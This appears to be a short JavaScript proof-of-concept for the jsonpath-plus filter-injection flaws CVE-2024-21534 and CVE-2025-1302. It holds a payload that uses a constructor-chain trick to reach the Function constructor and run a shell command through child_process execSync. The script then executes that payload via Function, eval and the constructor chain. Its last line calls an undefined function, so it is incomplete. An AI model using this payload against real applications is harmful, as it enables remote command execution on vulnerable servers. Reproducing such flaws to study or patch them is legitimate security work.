// Filter expressions that call a method of the constructor of a text.
// advisory: CVE-2024-21534 (jsonpath-plus), CVE-2025-1302 (jsonpath-plus)
const filters = ['$..[?(p="console.log(this.process.mainModule.require(\'child_process\').execSync(\'id\').toString())";a=\'\'[[\'constructor\']][[\'constructor\']](p);a())]'];
for (const filter of filters) {
  const body = filter.slice(6, -2);
  for (const make of [() => Function(body), () => eval(body), () => ''[['constructor']][['constructor']](body)]) { try { const made = make(); console.log('ESCAPED?', typeof made === 'function' ? made() : typeof made); } catch (error) { console.log(error.name); } }
}
reach(''[['constructor']][['constructor']]);
